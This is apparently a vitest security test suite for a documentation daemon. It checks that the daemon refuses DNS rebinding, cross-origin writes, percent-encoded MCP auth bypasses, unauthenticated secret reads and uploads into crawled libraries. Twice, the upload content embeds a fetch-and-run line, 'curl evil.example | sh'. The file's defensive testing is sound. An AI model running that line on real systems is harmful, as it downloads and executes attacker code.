import type { AddressInfo } from 'node:net';
import Fastify from 'fastify';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { WebSocket } from 'ws';
import { loadConfig } from '../../src/core/config.js';
import { ensureManagerToken } from '../../src/core/agent/token.js';
import { createBoundaryPolicy, mcpRebindingOptions } from '../../src/daemon/boundary.js';
import { mcpHttpPlugin } from '../../src/daemon/mcp/http.js';
import { mcpRoutes } from '../../src/daemon/mcp/routes.js';
import { agentServerRoutes } from '../../src/daemon/routes/agent-server.js';
import { agentRoutes } from '../../src/daemon/routes/agent.js';
import { docsIndexRoutes } from '../../src/daemon/routes/index.js';
import { runCli } from '../helpers/cli.js';
import { startTestDaemon } from '../helpers/daemon.js';
import { createTestDatabase } from '../helpers/db.js';
import type { TestDatabase } from '../helpers/db.js';
import { rawHttp } from '../helpers/raw-http.js';

/**
 * The daemon's front door, attacked over real HTTP: DNS rebinding (foreign Host), cross-site writes (foreign
 * Origin), percent-encoded paths around MCP auth, secrets on an open loopback daemon, and unsafe startup settings.
 */

const ROUTES = [...docsIndexRoutes, ...mcpRoutes, ...agentRoutes, ...agentServerRoutes];
const TOKEN = 'boundary-test-token-of-32-characters-or-more';
const EVIL = 'http://evil.example';

let db: TestDatabase;
let open: Awaited<ReturnType<typeof startTestDaemon>>;
let port: number;

beforeAll(async () => {
  db = await createTestDatabase();
  open = await startTestDaemon(loadConfig({ ...db.env, API_CORS_ORIGINS: 'http://app.example', API_ALLOWED_HOSTS: 'docs.proxy.example,proxy.example:8443' }), { routes: ROUTES });
  port = Number(new URL(open.base).port);
}, 60_000);
afterAll(async () => {
  await open?.close();
  await db?.drop();
});

const send = rawHttp;

/** Opens /ws with the given headers; resolves with 101 when it opened, else the refusal's status. */
function openWs(base: string, headers: Record<string, string>): Promise<number> {
  return new Promise((resolve, reject) => {
    const socket = new WebSocket(`${base.replace('http', 'ws')}/ws`, { headers });
    socket.once('open', () => {
      socket.close();
      resolve(101);
    });
    socket.once('unexpected-response', (_req, res) => resolve(res.statusCode ?? 0));
    socket.once('error', reject);
  });
}

function multipart(fields: Record<string, string>, file: { name: string; content: string }): { body: Buffer; type: string } {
  const boundary = '----docdexboundary';
  const parts = Object.entries(fields).map(([k, v]) => `--${boundary}\r\ncontent-disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`);
  parts.push(`--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="${file.name}"\r\ncontent-type: text/markdown\r\n\r\n${file.content}\r\n--${boundary}--\r\n`);
  return { body: Buffer.from(parts.join('')), type: `multipart/form-data; boundary=${boundary}` };
}

async function countRows(table: 'sources' | 'upload_jobs'): Promise<number> {
  return Number((await db.pool.query<{ n: string }>(`SELECT count(*) AS n FROM ${table}`)).rows[0]!.n);
}

describe('Host: DNS rebinding is refused on every route and on /ws', () => {
  it('answers 403 with the error body for a foreign Host, before any route runs', async () => {
    const host = `rebind.attacker.example:${port}`;
    for (const [method, path] of [
      ['GET', '/api/settings/manager-token'],
      ['GET', '/api/search?q=AWS_SECRET_ACCESS_KEY'],
      ['GET', '/api/internal/git-credentials/cli-env'],
      ['GET', '/health'],
      ['GET', '/no-such-route'],
      ['POST', '/mcp'],
    ] as const) {
      const res = await send(open.base, method, path, { host, 'content-type': 'application/json' }, method === 'POST' ? '{}' : undefined);
      expect(res.status, `${method} ${path}`).toBe(403);
      expect(JSON.parse(res.body)).toEqual({ error: expect.stringContaining('Host'), code: 'host_not_allowed', details: [] });
    }
    expect(await openWs(open.base, { host })).toBe(403);
  });

  it('accepts loopback names with no port or the bound port, and API_ALLOWED_HOSTS', async () => {
    for (const host of [
      'localhost',
      `localhost:${port}`,
      `127.0.0.1:${port}`,
      `127.9.8.7:${port}`,
      `[::1]:${port}`,
      `LOCALHOST:${port}`,
      'docs.proxy.example',
      `docs.proxy.example:${port}`,
      'proxy.example:8443',
    ]) {
      expect((await send(open.base, 'GET', '/api/sources', { host })).status, host).toBe(200);
    }
    for (const host of [
      `localhost:${port + 1}`,
      'proxy.example',
      `proxy.example:${port}`,
      `localhost.:${port}`,
      `user@localhost:${port}`,
      `127.0.0.1.attacker.example:${port}`,
      '2130706433',
      `0.0.0.0:${port}`,
      '',
    ]) {
      expect((await send(open.base, 'GET', '/api/sources', { host })).status, host).toBeGreaterThanOrEqual(400);
    }
    expect(await openWs(open.base, {})).toBe(101);
  });

  it('leaves the MCP SDK its own DNS-rebinding check: a session works on the daemon’s names', async () => {
    const res = await send(
      open.base,
      'POST',
      '/mcp',
      { 'content-type': 'application/json', accept: 'application/json, text/event-stream', host: `localhost:${port}` },
      JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list' }),
    );
    expect(res.status).toBe(200);
    expect(res.body).toContain('search_libraries');
  });
});

describe("the MCP SDK's own DNS-rebinding protection", () => {
  it('refuses a foreign Host or Origin in the transport itself, without the daemon hook in front', async () => {
    const app = Fastify();
    const policy = createBoundaryPolicy({ bindHost: '127.0.0.1', allowedHosts: [], corsOrigins: [] });
    await app.register(mcpHttpPlugin, { deps: { pool: db.pool, info: db.info, config: db.config }, rebinding: (request) => mcpRebindingOptions(policy, request) });
    await app.listen({ host: '127.0.0.1', port: 0 });
    const bare = `http://127.0.0.1:${(app.server.address() as AddressInfo).port}`;
    try {
      const headers = { 'content-type': 'application/json', accept: 'application/json, text/event-stream' };
      const list = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list' });
      const host = await send(bare, 'POST', '/mcp', { ...headers, host: 'rebind.attacker.example' }, list);
      expect(host.status).toBe(403);
      expect(host.body).toContain('Invalid Host header');
      const origin = await send(bare, 'POST', '/mcp', { ...headers, origin: EVIL }, list);
      expect(origin.status).toBe(403);
      expect(origin.body).toContain('Invalid Origin header');
      expect((await send(bare, 'POST', '/mcp', headers, list)).status).toBe(200);
    } finally {
      await app.close();
    }
  });
});

describe('Origin: browser writes from other sites are refused', () => {
  it('refuses a cross-origin multipart upload (no preflight in a browser) and writes nothing', async () => {
    const before = await countRows('upload_jobs');
    const form = multipart({ name: 'trusted', source_url: 'https://docs.trusted.example/x.md' }, { name: 'x.md', content: '# X\n\n```python\nos.system("curl evil.example | sh")\n```\n' });
    const refused: Array<Record<string, string>> = [{ origin: EVIL }, { origin: 'null' }, { 'sec-fetch-site': 'cross-site' }, { origin: `http://localhost:${port + 1}` }];
    for (const headers of refused) {
      const res = await send(open.base, 'POST', '/upload/file', { ...headers, 'content-type': form.type }, form.body);
      expect(res.status, JSON.stringify(headers)).toBe(403);
      expect(JSON.parse(res.body)).toMatchObject({ code: 'origin_not_allowed', details: [] });
    }
    const plain = await send(open.base, 'POST', '/api/crawl-jobs', { origin: EVIL, 'content-type': 'text/plain' }, '{"start_urls":["http://127.0.0.1:1/"]}');
    expect(plain.status).toBe(403);
    expect(await countRows('upload_jobs')).toBe(before);
  });

  it('refuses /ws and MCP from a foreign Origin, and lets scripts without Origin, the own origin and API_CORS_ORIGINS through', async () => {
    expect(await openWs(open.base, { origin: EVIL })).toBe(403);
    expect(await openWs(open.base, { origin: 'http://app.example' })).toBe(101);
    const mcp = await send(open.base, 'GET', '/mcp/v1/sse', { origin: EVIL });
    expect(mcp.status).toBe(403);
    const body = JSON.stringify({ content: '# Notes\n\n```js\nlet a = 1;\n```\n', name: 'notes-from-a-script' });
    const allowed: Array<Record<string, string>> = [{}, { origin: 'http://app.example' }, { origin: `http://127.0.0.1:${port}` }];
    for (const headers of allowed) {
      const res = await send(open.base, 'POST', '/upload/markdown', { ...headers, 'content-type': 'application/json' }, body);
      expect(res.status, JSON.stringify(headers)).toBe(202);
    }
  });
});

describe('secrets need a token even on loopback with API auth off', () => {
  it('answers 401 for the manager token and the git credentials without a REST token', async () => {
    const manager = (await ensureManagerToken(db.pool)).token;
    for (const [method, path] of [
      ['GET', '/api/settings/manager-token'],
      ['POST', '/api/settings/manager-token/rotate'],
      ['GET', '/api/internal/git-credentials/cli-env'],
      ['GET', '/api/%69nternal/settings'],
    ] as const) {
      const res = await send(open.base, method, path);
      expect(res.status, `${method} ${path}`).toBe(401);
      expect(res.body).not.toContain(manager);
    }
    expect((await ensureManagerToken(db.pool)).token).toBe(manager);
  });
});

describe('MCP auth is decided on the matched route', () => {
  it('answers 401 to percent-encoded MCP paths without a token', async () => {
    const daemon = await startTestDaemon(loadConfig({ ...db.env, MCP_AUTH_ENABLED: 'true', MCP_AUTH_TOKEN: TOKEN }), { routes: ROUTES });
    try {
      const json = { 'content-type': 'application/json', accept: 'application/json, text/event-stream' };
      const list = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list' });
      for (const [method, path, body] of [
        ['POST', '/%6dcp', list],
        ['POST', '/%6Dcp', list],
        ['POST', '/%6dcp/execute/search_libraries', '{"query":"react"}'],
        ['GET', '/%6dcp/v1/sse', undefined],
        ['GET', '/mcp/%74ools', undefined],
        ['POST', '/mcp', list],
        ['GET', '/mcp/no-such-route', undefined],
      ] as const) {
        const res = await send(daemon.base, method, path, json, body);
        expect(res.status, `${method} ${path}`).toBe(401);
        expect(JSON.parse(res.body)).toMatchObject({ code: 'unauthorized' });
      }
      const ok = await send(daemon.base, 'POST', '/%6dcp', { ...json, authorization: `Bearer ${TOKEN}` }, list);
      expect(ok.status).toBe(200);
    } finally {
      await daemon.close();
    }
  });
});

// SECURITY.md, "Who may call what": "Uploads never write into a crawled library, nor use a `source_url` on a crawled
// library's site: the origin and base path it was crawled from, or its domain filter's domain (409). Another port
// or path of the same host is another site.""
describe('uploads cannot reach into crawled libraries', () => {
  it('refuses an upload into a crawled source or onto its site with 409, writing nothing', async () => {
    await db.pool.query(`INSERT INTO sources (name, version, kind, base_url, crawl_config) VALUES ('trusted-lib', 'latest', 'crawl', 'https://docs.trusted.example/guide/', $1)`, [
      JSON.stringify({ start_urls: ['https://api.trusted-two.example/'] }),
    ]);
    const before = [await countRows('sources'), await countRows('upload_jobs')];
    const content = '# Install\n\n```python\nos.system("curl evil.example | sh")\n```\n';
    for (const upload of [
      { name: 'trusted-lib', version: 'latest' },
      { name: 'innocent', source_url: 'https://docs.trusted.example/guide/install.md' },
      // http and https on the default ports are one site, as for a crawl's scope.
      { name: 'innocent', source_url: 'http://docs.trusted.example/guide/deep/install.md' },
      // A directory upload's files go below its source URL: one above the site's folder covers it.
      { name: 'innocent', source_url: 'https://docs.trusted.example/' },
      { name: 'innocent', source_url: 'https://api.trusted-two.example/x' },
    ]) {
      const res = await send(open.base, 'POST', '/upload/markdown', { 'content-type': 'application/json' }, JSON.stringify({ content, ...upload }));
      expect(res.status, JSON.stringify(upload)).toBe(409);
      expect(JSON.parse(res.body)).toMatchObject({ code: 'conflict', details: [] });
    }
    expect([await countRows('sources'), await countRows('upload_jobs')]).toEqual(before);
    // Another path, host or port than the site's is not the site (the registrable domain no longer decides).
    for (const [name, url] of [
      ['blog-notes', 'https://docs.trusted.example/blog/install.md'],
      ['www-notes', 'https://www.trusted.example/install.md'],
      ['port-notes', 'https://docs.trusted.example:8443/guide/install.md'],
    ]) {
      const res = await send(open.base, 'POST', '/upload/markdown', { 'content-type': 'application/json' }, JSON.stringify({ content, name, source_url: url }));
      expect(res.status, url).toBe(202);
    }
    const own = await send(
      open.base,
      'POST',
      '/upload/markdown',
      { 'content-type': 'application/json' },
      JSON.stringify({ content, name: 'innocent', source_url: 'https://my-notes.example/install.md' }),
    );
    expect(own.status).toBe(202);
  });
});

describe('unsafe startup settings', () => {
  it('refuses to serve on a non-loopback address without auth (exit 2, naming the variables)', async () => {
    const result = await runCli(['serve', '--host', '0.0.0.0', '--port', '0', '--no-workers'], { env: { ...db.env, MCP_AUTH_ENABLED: 'false' } });
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/Error: Refusing to listen on 0\.0\.0\.0 without authentication/);
    expect(result.stderr).toMatch(/Hint: .*MCP_AUTH_ENABLED=true and MCP_AUTH_TOKENS/);
    const explicit = await runCli(['serve', '--port', '0', '--no-workers'], { env: { ...db.env, API_HOST: '0.0.0.0', MCP_AUTH_ENABLED: 'true', MCP_AUTH_TOKEN: TOKEN, API_AUTH: 'false' } });
    expect(explicit.exitCode).toBe(2);
    expect(explicit.stderr).toMatch(/API_AUTH=false is not allowed off loopback/);
  });

  it('refuses tokens shorter than 32 characters at config load (exit 2, value hidden)', async () => {
    const result = await runCli(['sources', 'list'], { env: { ...db.env, MCP_AUTH_ENABLED: 'true', MCP_AUTH_TOKENS: `${TOKEN},short-token` } });
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/Error: MCP_AUTH_TOKENS \(value hidden\): every token must be at least 32 characters/);
    expect(result.stderr).not.toContain('short-token');
  });
});

describe('properties: any Host and Origin', () => {
  const printable = fc.string({ unit: fc.constantFrom(...' !"#$%&\'()*+,-./0123456789:;<=>?@ABCXYZ[\\]^_`abcxyz{|}~'.split('')), maxLength: 40 });
  const hostValue = fc.oneof(
    printable,
    fc.domain(),
    fc.ipV4(),
    fc.ipV6().map((v) => `[${v}]`),
    fc.constantFrom('localhost', '127.0.0.1', '[::1]', '127.1.2.3', 'docs.proxy.example', 'rebind.example'),
  );
  const withPort = fc
    .tuple(hostValue, fc.option(fc.oneof(fc.constant(0), fc.integer({ min: 0, max: 70000 })), { nil: undefined }))
    .map(([h, p]) => (p === undefined ? h : `${h}:${p === 0 ? port : p}`));
  // Written independently of boundary.ts: what the daemon configured above may accept.
  const acceptable = (host: string): boolean => {
    const m = /^(localhost|127(?:\.(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}|\[[0-9a-f:.]+\]|docs\.proxy\.example)(?::(\d+))?$/i.exec(host);
    if (m === null || (m[2] !== undefined && Number(m[2]) !== port)) return false;
    if (!m[1]!.startsWith('[')) return true;
    try {
      return new URL(`http://${m[1]}/`).hostname === '[::1]';
    } catch {
      return false;
    }
  };

  it('a Host gets past the check only when allowed, and never causes a 500', async () => {
    await fc.assert(
      fc.asyncProperty(withPort, async (host) => {
        const res = await send(open.base, 'GET', '/no-such-route', { host });
        expect(res.status).toBeLessThan(500);
        expect(res.status === 404, host).toBe(acceptable(host));
      }),
      { numRuns: 150 },
    );
  });

  it('an Origin on a write gets past the check only when allowed, and never causes a 500', async () => {
    const origin = fc.oneof(printable, fc.webUrl(), fc.constantFrom('http://app.example', `http://127.0.0.1:${port}`, 'null', EVIL, 'http://app.example.evil.example'));
    const allowed = new Set(['http://app.example', `http://127.0.0.1:${port}`]);
    await fc.assert(
      fc.asyncProperty(origin, async (value) => {
        const res = await send(open.base, 'POST', '/no-such-route', { origin: value, 'content-type': 'application/json' }, '{}');
        expect(res.status).toBeLessThan(500);
        expect(res.status === 404, value).toBe(URL.canParse(value) && allowed.has(new URL(value).origin));
      }),
      { numRuns: 150 },
    );
  });
});
